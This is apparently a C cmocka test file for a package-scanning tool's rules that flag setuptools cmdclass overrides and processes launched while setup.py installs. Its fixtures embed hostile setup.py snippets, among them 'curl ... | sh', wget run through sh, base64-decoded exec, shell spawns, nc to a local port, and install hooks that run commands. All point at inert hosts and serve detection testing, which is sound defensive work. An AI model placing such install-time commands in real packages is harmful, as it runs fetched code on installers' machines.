/* SPDX-License-Identifier: MIT */
/* install.cmdclass-override and install.toplevel-process. Commands and
 * hosts are inert (127.0.0.1, 203.0.113.0/24, .invalid). */
#include "rules_tests.h"

#define SETUP "demo-1.0/setup.py"

static void setup_none(const char *text)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	t_scan(&f, SETUP, text);
	t_none(&f);
	lg_findings_dispose(&f);
}

/* The one finding of rule; checks severity and that message has needle. */
static void setup_one(const char *text, const char *rule,
		      enum lg_severity sev, const char *needle)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *x;

	t_scan(&f, SETUP, text);
	x = t_one(&f, rule);
	assert_int_equal(x->severity, sev);
	if (needle && !strstr(x->message, needle))
		fail_msg("'%s' not in '%s'", needle, x->message);
	assert_int_equal(f.n, 1);
	lg_findings_dispose(&f);
}

/* ---- install.cmdclass-override ---------------------------------------- */

static void test_rules_cmdclass__dict_literal(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *x;

	(void)state;
	t_scan(&f, SETUP,
	       "from setuptools import setup\n"
	       "from setuptools.command.install import install\n"
	       "class PostInstall(install):\n"
	       "    def run(self):\n"
	       "        install.run(self)\n"
	       "setup(name='demo',\n"
	       "      cmdclass={'build_ext': BuildExt,\n"
	       "                'install': PostInstall})\n");
	x = t_one(&f, "install.cmdclass-override");
	assert_int_equal(x->severity, LG_SEV_MEDIUM);
	assert_int_equal(x->line, 8);
	assert_string_equal(x->path, SETUP);
	assert_non_null(strstr(x->message, "'install'"));
	assert_non_null(strstr(x->message, "'PostInstall'"));
	lg_findings_dispose(&f);
}

static void test_rules_cmdclass__other_shapes(void **state)
{
	(void)state;
	setup_one("setup(cmdclass=dict(develop=Dev))\n",
		  "install.cmdclass-override", LG_SEV_MEDIUM, "'develop'");
	setup_one("cmds = {}\ncmds['egg_info'] = Egg\nsetup(cmdclass=cmds)\n",
		  "install.cmdclass-override", LG_SEV_MEDIUM, "'egg_info'");
	setup_one("cmds = dict()\ncmds.update({'install': I})\n"
		  "setup(cmdclass=cmds)\n",
		  "install.cmdclass-override", LG_SEV_MEDIUM, "'I'");
	setup_one("cmds = {'build': B}\ncmds.update(install=mod.I)\n"
		  "setup(name='x', cmdclass=cmds)\n",
		  "install.cmdclass-override", LG_SEV_MEDIUM, "'mod.I'");
	setup_one("cmdclass = {\"install\": I}\nsetup(cmdclass=cmdclass)\n",
		  "install.cmdclass-override", LG_SEV_MEDIUM, "'install'");
	setup_one("kw = {'cmdclass': {'develop': D}}\nsetup(**kw)\n",
		  "install.cmdclass-override", LG_SEV_MEDIUM, "'develop'");
	setup_one("kw = {}\nkw['cmdclass'] = dict(install=I)\nsetup(**kw)\n",
		  "install.cmdclass-override", LG_SEV_MEDIUM, "'install'");
}

static void test_rules_cmdclass__each_command_once(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	t_scan(&f, SETUP,
	       "c = {'install': A, 'develop': B}\n"
	       "setup(cmdclass=c)\nsetup(cmdclass=c)\n"
	       "setup(cmdclass={'install': A, 'egg_info': E})\n");
	assert_int_equal(t_count(&f, "install.cmdclass-override"), 3);
	lg_findings_dispose(&f);
}

static void test_rules_cmdclass__near_misses(void **state)
{
	(void)state;
	setup_none("setup(cmdclass={'build_ext': BuildExt, 'build_py': B,\n"
		   "                'sdist': S, 'bdist_wheel': W})\n");
	setup_none("setup(cmdclass=dict(build_ext=BuildExt))\n");
	/* the stock class replaces nothing */
	setup_none("from setuptools.command.install import install\n"
		   "from setuptools.command import develop\n"
		   "setup(cmdclass={'install': install,\n"
		   "                'develop': develop.develop})\n");
	/* a variable never given a risky key */
	setup_none("cmds = {'build_ext': B}\nsetup(cmdclass=cmds)\n");
	/* a risky key in a dict that is not a cmdclass */
	setup_none("opts = {'install': {'prefix': '/opt'}}\nsetup(name='x')\n");
	setup_none("import versioneer\n"
		   "setup(cmdclass=versioneer.get_cmdclass())\n");
}

static void test_rules_cmdclass__only_setup_py(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	t_scan(&f, "demo-1.0/docs/setup.py",
	       "setup(cmdclass={'install': I})\n");
	t_scan(&f, "demo/helpers.py", "setup(cmdclass={'install': I})\n");
	t_none(&f);
	lg_findings_dispose(&f);
}

/* ---- install.toplevel-process ------------------------------------------- */

static void test_rules_toplevel__shell_command(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *x;

	(void)state;
	t_scan(&f, SETUP,
	       "import os\n"
	       "from setuptools import setup\n"
	       "os.system('curl -s http://127.0.0.1/x | sh')\n"
	       "setup(name='demo')\n");
	x = t_one(&f, "install.toplevel-process");
	assert_int_equal(x->severity, LG_SEV_HIGH);
	assert_int_equal(x->line, 3);
	assert_non_null(strstr(x->message, "'os.system'"));
	assert_non_null(strstr(x->message, "'curl'"));
	lg_findings_dispose(&f);
}

static void test_rules_toplevel__high(void **state)
{
	static const char *const shapes[] = {
		"import subprocess as sp\n"
		"sp.Popen(['sh', '-c', 'wget http://203.0.113.9/a'])\n",
		"from subprocess import check_call\n"
		"check_call(['git', 'clone', 'https://x.invalid/r'])\n",
		"import os\nos.popen('git describe; id')\n",
		"import subprocess, sys\n"
		"subprocess.Popen([sys.executable, '-c', 'import base64; "
		"exec(base64.b64decode(s))'], stdout=subprocess.DEVNULL)\n",
		"import os\nos.spawnl(os.P_NOWAIT, '/bin/sh', 'sh')\n",
		"import os\nos.execv('/bin/sh', ['sh'])\n",
		"if True:\n    import subprocess\n"
		"    subprocess.run('nc 127.0.0.1 9', shell=True)\n",
		"try:\n    import subprocess\n"
		"    subprocess.run(args=['bash', 'x.sh'])\n"
		"except Exception:\n    pass\n",
		"import subprocess\nsubprocess.getoutput('uname -a && id')\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(shapes) / sizeof(shapes[0]); i++) {
		struct lg_findings f = LG_FINDINGS_INIT;

		t_scan(&f, SETUP, shapes[i]);
		if (t_count(&f, "install.toplevel-process") != 1 ||
		    t_one(&f, "install.toplevel-process")->severity !=
			    LG_SEV_HIGH)
			fail_msg("shape %zu not high", i);
		lg_findings_dispose(&f);
	}
}

static void test_rules_toplevel__grpc_probe_is_medium(void **state)
{
	(void)state;
	setup_one(
		"import os, subprocess\n"
		"from subprocess import PIPE\n"
		"cxx = os.environ.get('CXX', 'g++').split()\n"
		"cpp_test = subprocess.Popen(cxx + ['-x', 'c++', '-std=c++14',"
		" '-'], stdin=PIPE, stdout=PIPE, stderr=PIPE)\n"
		"cpp_test.communicate(input=code)\n",
		"install.toplevel-process", LG_SEV_MEDIUM,
		"'subprocess.Popen'");
	setup_one("import os\nos.system(cmd)\n", "install.toplevel-process",
		  LG_SEV_MEDIUM, "built at run time");
	setup_one("import os\nos.system('gcc ' + flags)\n",
		  "install.toplevel-process", LG_SEV_MEDIUM, "'os.system'");
}

static void test_rules_toplevel__allowed_build_tools(void **state)
{
	(void)state;
	/* torch-style version stamp */
	setup_none("import subprocess\n"
		   "sha = subprocess.check_output(['git', 'rev-parse', 'HEAD'],"
		   " cwd=cwd).decode('ascii').strip()\n");
	setup_none("import subprocess\n"
		   "subprocess.check_call(['cmake', '--version'])\n"
		   "subprocess.check_output(('pkg-config', '--cflags', "
		   "'libffi'))\n"
		   "subprocess.call(['/usr/bin/gcc', '-v'])\n"
		   "subprocess.run(['git', '-C', src, 'describe', '--tags'])\n"
		   "subprocess.check_output(['make', '-j', str(n)])\n");
	setup_none("import os\n"
		   "v = os.popen('git describe --tags 2>/dev/null').read()\n"
		   "os.system('uname -a >&2')\n");
	setup_none("import subprocess, sys\n"
		   "subprocess.check_output([sys.executable, '-c', "
		   "'import sysconfig; print(sysconfig.get_paths())'])\n");
	/* inside a function or a class: not module level */
	setup_none("import os\n"
		   "def build():\n    os.system('ls -l')\n"
		   "class Cmd:\n    def run(self):\n        os.system('id')\n");
	/* a method that only shares the name */
	setup_none("proc.call(['sh'])\nself.run('x')\n");
}

/* Like setup_one, next to the hook's own install.cmdclass-override. */
static void hook_one(const char *text, enum lg_severity sev,
		     const char *needle)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *x;

	t_scan(&f, SETUP, text);
	x = t_one(&f, "install.toplevel-process");
	assert_int_equal(x->severity, sev);
	if (needle && !strstr(x->message, needle))
		fail_msg("'%s' not in '%s'", needle, x->message);
	assert_int_equal(t_count(&f, "install.cmdclass-override") + 1, f.n);
	lg_findings_dispose(&f);
}

/* C5: an install hook's run() and what it calls start a process. */
static void test_rules_toplevel__install_hook(void **state)
{
	(void)state;
	hook_one("import os\n"
		  "from setuptools import setup\n"
		  "from setuptools.command.install import install\n"
		  "class Hook(install):\n"
		  "    def run(self):\n"
		  "        install.run(self)\n"
		  "        os.popen('ls /').read()\n"
		  "setup(name='demo', cmdclass={'install': Hook})\n",
		  LG_SEV_HIGH, "combination C5");
	/* through a helper, a variable cmdclass and develop */
	hook_one("import subprocess\n"
		  "from setuptools import setup\n"
		  "from setuptools.command.develop import develop\n"
		  "def stage():\n"
		  "    subprocess.Popen(['python3', '-c', 'import helper'],"
		  " close_fds=True)\n"
		  "class After(develop):\n"
		  "    def run(self):\n"
		  "        develop.run(self)\n"
		  "        stage()\n"
		  "cmds = {'develop': After}\n"
		  "setup(name='demo', cmdclass=cmds)\n",
		  LG_SEV_HIGH, "'python3'");
}

/* C6: functions module code (or the __main__ block) calls. */
static void test_rules_toplevel__called_function(void **state)
{
	(void)state;
	setup_one("import os\n"
		  "from setuptools import setup\n"
		  "def post_install():\n"
		  "    os.system('whoami')\n"
		  "setup(name='demo')\n"
		  "post_install()\n",
		  "install.toplevel-process", LG_SEV_HIGH,
		  "called while the package installs");
	setup_one("import subprocess\n"
		  "from setuptools import setup\n"
		  "def fetch():\n"
		  "    subprocess.run(['python', 'stage2.py'])\n"
		  "setup(name='demo')\n"
		  "if __name__ == '__main__':\n"
		  "    fetch()\n",
		  "install.toplevel-process", LG_SEV_HIGH, "'python'");
}

/* Nothing but the hook's own install.cmdclass-override. */
static void hook_none(const char *text)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	t_scan(&f, SETUP, text);
	assert_int_equal(t_count(&f, "install.toplevel-process"), 0);
	assert_int_equal(t_count(&f, "install.cmdclass-override"), f.n);
	lg_findings_dispose(&f);
}

static void test_rules_toplevel__hook_near_misses(void **state)
{
	(void)state;
	/* build tools in an install hook (torch, numpy) */
	hook_none("import subprocess\n"
		   "from setuptools import setup\n"
		   "from setuptools.command.install import install\n"
		   "class Install(install):\n"
		   "    def run(self):\n"
		   "        subprocess.check_call(['make', '-C', 'lib'])\n"
		   "        subprocess.check_output(['git', 'rev-parse', "
		   "'HEAD'])\n"
		   "        install.run(self)\n"
		   "setup(name='demo', cmdclass={'install': Install})\n");
	/* a class that is no install/develop/egg_info hook */
	setup_none("import os\n"
		   "from setuptools import setup\n"
		   "from setuptools.command.build_ext import build_ext\n"
		   "class BuildExt(build_ext):\n"
		   "    def run(self):\n"
		   "        os.system('npm run build')\n"
		   "setup(name='demo', cmdclass={'build_ext': BuildExt})\n");
	/* a function nobody calls */
	setup_none("import os\n"
		   "def release():\n"
		   "    os.system('./publish.sh')\n");
	/* a script of the sdist run by the interpreter is judged by what it
	 * does (install.local-code-chain): medium here */
	setup_one("import subprocess, sys, os\n"
		  "from setuptools import setup\n"
		  "def cythonize():\n"
		  "    subprocess.call([sys.executable, os.path.join('tools',"
		  " 'cythonize.py'), 'pkg'])\n"
		  "cythonize()\n"
		  "setup(name='demo')\n",
		  "install.toplevel-process", LG_SEV_MEDIUM,
		  "'sys.executable'");
}

int test_rules_setup_group(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_cmdclass__dict_literal),
		cmocka_unit_test(test_rules_cmdclass__other_shapes),
		cmocka_unit_test(test_rules_cmdclass__each_command_once),
		cmocka_unit_test(test_rules_cmdclass__near_misses),
		cmocka_unit_test(test_rules_cmdclass__only_setup_py),
		cmocka_unit_test(test_rules_toplevel__shell_command),
		cmocka_unit_test(test_rules_toplevel__high),
		cmocka_unit_test(test_rules_toplevel__grpc_probe_is_medium),
		cmocka_unit_test(test_rules_toplevel__allowed_build_tools),
		cmocka_unit_test(test_rules_toplevel__install_hook),
		cmocka_unit_test(test_rules_toplevel__called_function),
		cmocka_unit_test(test_rules_toplevel__hook_near_misses),
	};

	return cmocka_run_group_tests_name("rules_setup", tests, NULL, NULL);
}
